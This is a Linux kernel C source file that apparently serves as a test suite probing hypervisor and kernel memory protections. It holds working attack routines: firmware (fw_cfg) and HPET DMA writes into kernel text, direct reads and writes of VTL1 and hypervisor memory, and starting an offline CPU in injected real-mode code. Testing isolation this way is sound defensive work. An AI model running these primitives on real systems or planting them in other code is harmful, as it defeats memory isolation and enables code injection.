// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of the machine: the firmware's DMA, start-up of CPUs, memory that is not the kernel's.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <asm/apic.h>
#include <asm/asm.h>

#include "attacks.h"

#define FW_CFG_SELECT 0x510
#define FW_CFG_DMA 0x514
#define FW_CFG_READ 0x02
#define FW_CFG_SELECT_ITEM 0x08
#define FW_CFG_SIGNATURE 0

struct fw_cfg_access {
	__be32 control;
	__be32 length;
	__be64 address;
};

#define FW_CFG_SIZE 4

static unsigned long firmware_at;

/* The firmware's configuration device writes its signature, "QEMU". Return: 0 when it says that it did */
static int firmware_write(u64 to)
{
	struct fw_cfg_access *access = (void *)get_zeroed_page(GFP_KERNEL | GFP_DMA32);
	u64 pa = access ? __pa(access) : 0;
	bool done;

	if (!access)
		return -ENOMEM;
	access->control = cpu_to_be32(FW_CFG_SIGNATURE << 16 | FW_CFG_SELECT_ITEM | FW_CFG_READ);
	access->length = cpu_to_be32(FW_CFG_SIZE);
	access->address = cpu_to_be64(to);
	/* The upper half is 0 as long as nobody writes it. */
	outl((__force u32)cpu_to_be32(pa), FW_CFG_DMA + 4);
	done = !READ_ONCE(access->control);
	free_page((unsigned long)access);
	return done ? 0 : -EIO;
}

static int firmware_run(const struct attack *attack, struct result *result)
{
	unsigned long end = target_text();
	u8 before[FW_CFG_SIZE];

	if (!end)
		return -ENOENT;
	/* The last of a run of four. */
	firmware_at = end - 3;
	memcpy(before, (void *)firmware_at, sizeof(before));
	result->address = physical(firmware_at);
	firmware_write(result->address);
	result->effect = !!memcmp(before, (void *)firmware_at, sizeof(before));
	return 0;
}

static void firmware_undo(const struct attack *attack)
{
	unsigned int i;

	for (i = 0; i < 4; i++)
		write_by_vmap(firmware_at + i, 0xcc);
}

#define HPET_PAGE 0xfed00000
#define HPET_CONFIG 0x10
#define HPET_RUNS 1
#define HPET_COUNTER 0xf0
#define HPET_TIMER 0x140 /* the last of three, which the kernel has no use for */
#define HPET_COMPARE (HPET_TIMER + 8)
#define HPET_ROUTE (HPET_TIMER + 16)
#define HPET_TO_ADDRESS (1 << 14)
#define HPET_INTERRUPTS (1 << 2)
#define HPET_SOON 100000
#define HPET_TRIES 250
#define HPET_CODE 0x90909090

/* A timer of the HPET writes four bytes in place of an interrupt; a busy host lets it wait. */
static void hpet_write(void __iomem *hpet, const u32 *at, u32 value)
{
	u32 config = readl(hpet + HPET_CONFIG), timer = readl(hpet + HPET_TIMER);
	u32 to = physical((unsigned long)at);
	unsigned int i;

	writeq((u64)to << 32 | value, hpet + HPET_ROUTE);
	writel(HPET_TO_ADDRESS | HPET_INTERRUPTS, hpet + HPET_TIMER);
	writel(config | HPET_RUNS, hpet + HPET_CONFIG);
	writel(readl(hpet + HPET_COUNTER) + HPET_SOON, hpet + HPET_COMPARE);
	for (i = 0; i < HPET_TRIES && READ_ONCE(*at) != value; i++) {
		if (!(readl(hpet + HPET_TIMER) & HPET_TO_ADDRESS))
			break;
		msleep(20);
	}
	writel(timer, hpet + HPET_TIMER);
	writel(config, hpet + HPET_CONFIG);
}

static int hpet_run(const struct attack *attack, struct result *result)
{
	void __iomem *hpet = ioremap(HPET_PAGE, PAGE_SIZE);
	unsigned long end = target_text();

	if (!end || !hpet)
		return -ENOENT;
	firmware_at = end - 3;
	result->address = physical(firmware_at);
	hpet_write(hpet, (const u32 *)firmware_at, HPET_CODE);
	result->effect = *(volatile u32 *)firmware_at == HPET_CODE;
	iounmap(hpet);
	return 0;
}

/* The same over VTL1's memory. */
static int firmware_vtl1_run(const struct attack *attack, struct result *result)
{
	if (!argument())
		return -ENOENT;
	result->address = argument();
	result->effect = !firmware_write(argument());
	return 0;
}

/* Memory that is not the kernel's, by a mapping of the attacker's own. */
static int read_run(const struct attack *attack, struct result *result)
{
	void *at = memremap(argument(), PAGE_SIZE, MEMREMAP_WB);
	int error = 0;
	u8 value;

	if (!at)
		return -ENOMEM;
	result->address = argument();
	asm volatile("1: movb %2, %1\n"
		     "2:\n"
		     _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(error), "=q"(value) : "m"(*(u8 *)at));
	result->error = error;
	result->effect = !error;
	memunmap(at);
	return 0;
}

static int write_run(const struct attack *attack, struct result *result)
{
	void *at = memremap(argument(), PAGE_SIZE, MEMREMAP_WB);

	if (!at)
		return -ENOMEM;
	result->address = argument();
	result->error = write_byte((unsigned long)at, 0);
	result->effect = !result->error;
	memunmap(at);
	return 0;
}

/*
 * In real mode: say that it runs, then wait for ever.  The memory is below 1 MiB, where the kernel gives
 * nothing to anybody.
 */
#define START_PAGE 0x20000
#define FLAG 0x800
#define START_TELLS 7 /* the first bytes of */
static const u8 start_code[] = {
	0xfa, /* cli */
	0x2e, 0xc6, 0x06, 0x00, 0x08, 0x01, /* movb $1, %cs:FLAG */
	0xf4, 0xeb, 0xfd /* hlt, again */
};

u64 start_page_prepare(void)
{
	u8 *page = __va(START_PAGE);

	memcpy(page, start_code, sizeof(start_code));
	WRITE_ONCE(page[FLAG], 0);
	return START_PAGE;
}

void start_page_go_on(const u8 *code, unsigned int n)
{
	memcpy((u8 *)__va(START_PAGE) + START_TELLS, code, n);
}

bool start_page_ran(void)
{
	mdelay(50);
	return READ_ONCE(((u8 *)__va(START_PAGE))[FLAG]);
}

int send_ipi(u32 what, u32 apic_id)
{
	struct apic **apic = pointer("apic");

	if (!apic)
		return -ENOENT;
	(*apic)->icr_write(what, apic_id);
	mdelay(10);
	return 0;
}

int send_init(u32 apic_id)
{
	return send_ipi(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT, apic_id);
}

/* The second CPU, which is offline, starts in the attacker's code. */
static int start_run(const struct attack *attack, struct result *result)
{
	u64 page = start_page_prepare();
	int error = send_init(1);

	if (!error)
		error = send_ipi(APIC_DM_STARTUP | page >> PAGE_SHIFT, 1);
	result->address = 1;
	result->effect = start_page_ran();
	return error;
}

const struct attack machine_attacks[] = {
	{ "firmware-dma", firmware_run, firmware_undo, NULL },
	{ "hpet-dma", hpet_run, firmware_undo, NULL },
	{ "firmware-dma-vtl1", firmware_vtl1_run, NULL, NULL },
	{ "vtl1-read", read_run, NULL, NULL },
	{ "vtl1-write", write_run, NULL, NULL },
	{ "hypervisor-read", read_run, NULL, NULL },
	{ "cpu-start-page", start_run, NULL, NULL },
	{ }
};
